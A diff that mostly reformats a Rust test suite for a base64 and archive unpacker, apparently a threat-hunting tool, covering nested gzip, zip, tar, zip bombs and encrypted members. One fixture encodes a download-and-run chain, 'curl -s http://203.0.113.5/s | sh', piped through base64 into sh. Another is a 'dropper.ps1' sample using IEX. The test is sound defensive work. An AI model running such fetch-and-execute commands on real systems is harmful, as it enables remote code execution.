@@ -1,12 +1,12 @@
 //! Base64 and archive unpacking through the public API: archives, limits,
 //! bombs, hostile and broken input.
 
+use ::zip::write::SimpleFileOptions;
 use base64::Engine;
 use base64::engine::general_purpose::STANDARD;
 use huntbook::prelude::*;
 use huntbook::transform::unpack::{Encoding, StopReason, Unpacker, Utf16Mode, export_df};
 use std::io::{Cursor, Write};
-use ::zip::write::SimpleFileOptions;
 
 fn b64(bytes: &[u8]) -> String {
     STANDARD.encode(bytes)
@@ -49,13 +49,18 @@ fn reasons(out: &Unpacked) -> Vec<String> {
 #[test]
 fn gzip_base64_with_file_name_and_nested_base64() {
     // gzip of a script holding another base64 blob, with FNAME set
-    let inner = format!("echo {} | base64 -d | sh", b64(b"curl -s http://203.0.113.5/s | sh"));
+    let inner = format!(
+        "echo {} | base64 -d | sh",
+        b64(b"curl -s http://203.0.113.5/s | sh")
+    );
     let mut e = flate2::GzBuilder::new()
         .filename("stage.sh")
         .write(Vec::new(), flate2::Compression::default());
     e.write_all(inner.as_bytes()).unwrap();
     let gz = e.finish().unwrap();
-    let out = Unpacker::new().unpack(&format!("x {} y", b64(&gz))).unwrap();
+    let out = Unpacker::new()
+        .unpack(&format!("x {} y", b64(&gz)))
+        .unwrap();
     let items = out.items();
     assert_eq!(items.len(), 2);
     assert_eq!(items[0].file_name, "stage.sh");
@@ -82,13 +87,21 @@ fn multi_member_zip_gets_an_archive_row_and_child_paths() {
     let items = out.items();
     assert_eq!(items.len(), 3);
     assert_eq!(
-        (items[0].reference.as_str(), items[0].depth, items[0].file_type.as_deref()),
+        (
+            items[0].reference.as_str(),
+            items[0].depth,
+            items[0].file_type.as_deref()
+        ),
         ("1", 1, Some("zip"))
     );
     assert_eq!(items[0].encoding_type, Some(Encoding::Binary));
     assert_eq!(items[0].input_bytes, z);
     assert_eq!(
-        (items[1].reference.as_str(), items[1].depth, items[1].file_name.as_str()),
+        (
+            items[1].reference.as_str(),
+            items[1].depth,
+            items[1].file_name.as_str()
+        ),
         ("1.1", 2, "a.txt")
     );
     assert_eq!(items[1].decoded_string.as_deref(), Some("alpha text"));
@@ -111,7 +124,13 @@ fn tar_gz_is_unpacked_through_both_layers() {
     let names: Vec<(&str, &str, Option<&str>)> = out
         .items()
         .iter()
-        .map(|i| (i.reference.as_str(), i.file_name.as_str(), i.file_type.as_deref()))
+        .map(|i| {
+            (
+                i.reference.as_str(),
+                i.file_name.as_str(),
+                i.file_type.as_deref(),
+            )
+        })
         .collect();
     assert_eq!(
         names,
@@ -121,14 +140,21 @@ fn tar_gz_is_unpacked_through_both_layers() {
             ("1.2", "notes.txt", Some("tar")),
         ]
     );
-    assert_eq!(out.items()[1].decoded_string.as_deref(), Some("#!/bin/sh\nid\n"));
-    assert_eq!(out.items()[0].depth, 2, "the tar is one level inside the gzip");
+    assert_eq!(
+        out.items()[1].decoded_string.as_deref(),
+        Some("#!/bin/sh\nid\n")
+    );
+    assert_eq!(
+        out.items()[0].depth,
+        2,
+        "the tar is one level inside the gzip"
+    );
 }
 
 #[test]
 fn bundled_samples_unpack() {
-    let text = std::fs::read_to_string(bundled("msticpy/testdata/b64text_inzip.txt").unwrap())
-        .unwrap();
+    let text =
+        std::fs::read_to_string(bundled("msticpy/testdata/b64text_inzip.txt").unwrap()).unwrap();
     let out = unpack(&text).unwrap();
     assert_eq!(out.items().len(), 2);
     let it = &out.items()[0];
@@ -154,8 +180,7 @@ fn bundled_samples_unpack() {
          </decoded>\n-----END CERTIFICATE-----\n"
     );
 
-    let text =
-        std::fs::read_to_string(bundled("msticpy/testdata/base64msg.txt").unwrap()).unwrap();
+    let text = std::fs::read_to_string(bundled("msticpy/testdata/base64msg.txt").unwrap()).unwrap();
     let out = unpack(&text).unwrap();
     let rows: Vec<(&str, u32, &str, Option<&str>)> = out
         .items()
@@ -195,9 +220,20 @@ fn bundled_samples_unpack() {
     use Encoding::{Binary, Utf8, Utf16};
     assert_eq!(
         encodings[..7],
-        [Some(Binary), Some(Utf8), Some(Binary), Some(Utf8), Some(Utf16), Some(Utf8), Some(Utf16)]
+        [
+            Some(Binary),
+            Some(Utf8),
+            Some(Binary),
+            Some(Utf8),
+            Some(Utf16),
+            Some(Utf8),
+            Some(Utf16)
+        ]
     );
-    assert_eq!(out.items()[4].decoded_string, out.items()[11].decoded_string);
+    assert_eq!(
+        out.items()[4].decoded_string,
+        out.items()[11].decoded_string
+    );
     assert!(reasons(&out).is_empty(), "{:?}", reasons(&out));
 }
 
@@ -243,7 +279,10 @@ fn zip_bomb_members_are_refused_or_stopped() {
     let out = unpack(&b64(&z)).unwrap();
     let big = &out.items()[1];
     assert_eq!(big.file_name, "big.bin");
-    assert_eq!(big.stop_reasons, vec![StopReason::MaxMemberSize { limit: 8 << 20 }]);
+    assert_eq!(
+        big.stop_reasons,
+        vec![StopReason::MaxMemberSize { limit: 8 << 20 }]
+    );
     assert_eq!(out.items()[2].decoded_string.as_deref(), Some("ok"));
     // With a large member limit, the ratio stops it while inflating.
     let out = Unpacker::new()
@@ -272,7 +311,10 @@ fn zip_bomb_members_are_refused_or_stopped() {
 
 #[test]
 fn encrypted_zip_is_reported() {
-    let mut z = zip_of(&[("secret.ps1", b"Write-Host secret"), ("readme.txt", b"plain")]);
+    let mut z = zip_of(&[
+        ("secret.ps1", b"Write-Host secret"),
+        ("readme.txt", b"plain"),
+    ]);
     // Set the "encrypted" flag of the first member in its local and central headers.
     let local = z.windows(4).position(|w| w == b"PK\x03\x04").unwrap();
     z[local + 6] |= 1;
@@ -486,17 +528,35 @@ fn frame_rows_and_export() {
     .unwrap();
     let out = unpack_df(&df, "cmd").unwrap();
     assert_eq!(out.rows_decoded(), 2);
-    let idx: Vec<Option<IdxSize>> = out.df().column("src_index").unwrap().idx().unwrap().iter().collect();
+    let idx: Vec<Option<IdxSize>> = out
+        .df()
+        .column("src_index")
+        .unwrap()
+        .idx()
+        .unwrap()
+        .iter()
+        .collect();
     assert_eq!(idx, vec![Some(1), Some(2)]);
     let exported = out.export_df().unwrap();
     assert!(exported.column("file_hashes").is_err());
-    let hexed = exported.column("input_bytes").unwrap().str().unwrap().get(1).unwrap().to_string();
+    let hexed = exported
+        .column("input_bytes")
+        .unwrap()
+        .str()
+        .unwrap()
+        .get(1)
+        .unwrap()
+        .to_string();
     assert_eq!(hexed, "fe8a6dfeca65ba791fa2bc1aadd7abfdb8a7feca65ba791d");
     // CSV writes (no nested types left)
     let mut buf = Vec::new();
     let mut e = export_df(out.df()).unwrap();
     CsvWriter::new(&mut buf).finish(&mut e).unwrap();
-    assert!(String::from_utf8(buf).unwrap().starts_with("reference,original_string,"));
+    assert!(
+        String::from_utf8(buf)
+            .unwrap()
+            .starts_with("reference,original_string,")
+    );
 }
 
 #[test]
@@ -526,5 +586,11 @@ fn unpack_bytes_reads_a_raw_archive() {
         out.decoded_string(),
         "<decoded type='string' name='[zip] Filename: dropper.ps1' index='1' depth='1'>IEX 'hi'</decoded>"
     );
-    assert!(Unpacker::new().unpack_bytes(&[]).unwrap().items().is_empty());
+    assert!(
+        Unpacker::new()
+            .unpack_bytes(&[])
+            .unwrap()
+            .items()
+            .is_empty()
+    );
 }
